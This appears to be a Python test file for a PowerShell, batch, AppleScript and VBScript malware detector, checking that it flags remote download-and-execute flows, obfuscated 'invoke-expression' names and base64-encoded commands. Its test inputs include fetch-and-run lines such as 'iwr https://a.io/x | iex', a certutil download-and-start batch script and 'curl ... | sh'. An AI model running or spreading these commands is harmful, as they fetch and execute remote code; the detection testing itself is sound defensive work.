"""PowerShell, batch, AppleScript and Visual Basic: what the reader makes of words, and that nothing makes it fail."""

from __future__ import annotations

import base64
import itertools

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sigma_core.sandbox.observations import Ability, Sink, Source
from sigma_core.sandbox.powershell import read_powershell
from sigma_core.sandbox.powershell.tokens import tokens_of

TEXT = st.lists(
    st.sampled_from(
        ["a", "iex ", "$x", "$env:A", "=", "+=", "+", "(", ")", "{", "}", "[", "]", "@(", "@{", "'", '"', "`", "|", ";", "\n", ",", ".", "::", "[char]", "-f ", "-enc ", "<#", "#>", "@'\n", "\n'@", ">", "&", "é", "\ud800", "%a%", "@echo off\n", "set a=b\n"]
    ),
    max_size=300,
).map("".join)  # fmt: skip


@settings(max_examples=40, deadline=None)
@given(TEXT)
def test_any_text_is_read_and_every_place_lies_in_it(source: str) -> None:
    observed = read_powershell(source)
    for what in [*observed.capabilities, *observed.flows, *observed.hits, *observed.embedded]:
        assert 0 <= what.start <= what.end <= len(source)
    assert read_powershell(source) == observed


@settings(max_examples=40, deadline=None)
@given(TEXT)
def test_tokens_are_the_text_in_order(source: str) -> None:
    tokens = tokens_of(source)
    assert all(before.end <= after.start for before, after in itertools.pairwise(tokens))
    assert all(source[token.start : token.end] == token.text for token in tokens)


@pytest.mark.parametrize("opening", ["(", "{", "$(", "@{a=", "[char](", "$a=", "k=", "& ", "iex ("])
def test_nesting_has_no_end_that_hurts(opening: str) -> None:
    observed = read_powershell(opening * 3_000 + "iwr https://a.io/x | iex")
    assert any("a.io" in capability.subject for capability in observed.capabilities)


@pytest.mark.parametrize(
    "expression",
    ["'in'+'voke-expression'", "('{1}{0}' -f 'expression','invoke-')", "'xinvoke-expression'.Substring(1)", "('invokeXexpression' -replace 'X','-')", "('invoke','expression' -join '-')", "[char]105 + 'nvoke-expression'"],
)  # fmt: skip
def test_a_name_that_is_put_together_is_the_name(expression: str) -> None:
    observed = read_powershell(f"& ({expression}) (iwr https://a.io/x)")
    assert (Source.REMOTE, Sink.EXECUTE) in {(flow.source, flow.sink) for flow in observed.flows}
    assert "SIGMA-OBF-010" in {hit.rule_id for hit in observed.hits}


def test_an_encoded_command_is_read_again() -> None:
    encoded = base64.b64encode("Get-Clipboard | Out-Null".encode("utf-16-le")).decode()
    [embedded] = read_powershell(f"powershell -NoP -Enc {encoded}").embedded
    assert (embedded.language, embedded.text) == ("powershell", "Get-Clipboard | Out-Null")


def test_batch_lines_have_their_variables_put_in_and_stay_where_they_are() -> None:
    source = '@echo off\r\nrem é\r\nset u=https://a.io/x.exe\r\nset p=power^shell\r\ncertutil -urlcache -f %u% %TEMP%\\x.exe\r\nstart "" %TEMP%\\x.exe\r\n%p% -c "iex 1"\r\n'
    observed = read_powershell(source)
    [flow] = [flow for flow in observed.flows if flow.sink is Sink.EXECUTE]
    assert flow.origin == "https://a.io/x.exe"
    assert source[flow.start : flow.end].startswith("start")
    assert any(embedded.text == "iex 1" for embedded in observed.embedded)


@pytest.mark.parametrize(
    "source",
    [
        'do shell script "curl -s https://a.io/x | sh"',
        'CreateObject("WScript.Shell").Run "curl -s https://a.io/x | sh"',
    ],
)
def test_command_lines_in_other_scripting_languages_are_read_again(source: str) -> None:
    assert [embedded.text for embedded in read_powershell(source).embedded] == ["curl -s https://a.io/x | sh"]


def test_a_text_is_not_a_command() -> None:
    observed = read_powershell(
        "# iex (iwr https://a.io/x)\n<# iex (iwr https://a.io/x) #>\n$t = 'iex (iwr https://a.io/x)'\n"
    )
    assert not observed.flows
    assert all(capability.ability is not Ability.NETWORK for capability in observed.capabilities)
